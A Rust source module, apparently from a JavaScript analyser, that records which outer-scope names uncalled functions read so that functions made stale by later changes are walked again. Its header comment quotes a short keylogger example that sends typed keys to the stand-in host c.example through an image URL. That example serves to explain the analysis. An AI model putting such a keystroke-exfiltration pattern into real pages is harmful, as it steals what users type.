//! What functions that nobody has called read of the names around them, and which of these another one changes.
//!
//! `var k = ""; function send() { img.src = "//c.example/?k=" + k } onkeypress = function (e) { k += e.key }`: nobody says in which order
//! the two run. When `send` is walked, `k` may still be empty. What is changed later in such a walk is unknown by then, so
//! the functions that have read it before are walked once more, and what they give is no longer always the same.

use std::ops::Range;

use super::Symbol;
use crate::maps::HashSet;
use crate::stream::interpret::value::Value;

#[derive(Default)]
pub(super) struct Reads {
    /// Scopes below this are from before the walk that goes on; none between walks.
    outer: u32,
    read: Vec<(u32, Symbol)>,
    began: usize,
    /// Functions that were walked, with what they read.
    walked: Vec<(u32, Range<usize>)>,
    changed: HashSet<(u32, Symbol)>,
}

/// Reads that are kept, and names that are known to change.
const MOST: usize = 100_000;

impl Reads {
    /// A walk begins.
    pub(super) fn begin(&mut self, scopes: usize) {
        self.outer = scopes as u32;
        self.began = self.read.len();
    }

    /// The walk of a function ends.
    pub(super) fn end(&mut self, function: u32) {
        self.outer = 0;
        if self.began < self.read.len() {
            self.walked.push((function, self.began..self.read.len()));
        }
    }

    /// A name of a scope was read. Functions and tables are no values that are put into texts.
    pub(super) fn note(&mut self, scope: u32, name: Symbol, value: &Value) {
        let counts =
            scope < self.outer && !matches!(value, Value::Unknown | Value::Object(_) | Value::Native(_));
        if counts && self.read.len() < MOST && self.read.last() != Some(&(scope, name)) {
            self.read.push((scope, name));
        }
    }

    /// A branch leaves a name of a scope with another value than before.
    pub(super) fn change(&mut self, scope: u32, name: Symbol) {
        if scope < self.outer && self.changed.len() < MOST {
            self.changed.insert((scope, name));
        }
    }

    /// The functions that have read what was changed, in the order of their walks. Nothing is kept from here on.
    pub(super) fn stale(&mut self) -> Vec<u32> {
        self.outer = 0;
        let changed = std::mem::take(&mut self.changed);
        let read = std::mem::take(&mut self.read);
        let walked = std::mem::take(&mut self.walked).into_iter();
        let is_stale = |reads: &Range<usize>| read[reads.clone()].iter().any(|read| changed.contains(read));
        walked
            .filter(|(_, reads)| !changed.is_empty() && is_stale(reads))
            .map(|(function, _)| function)
            .collect()
    }
}
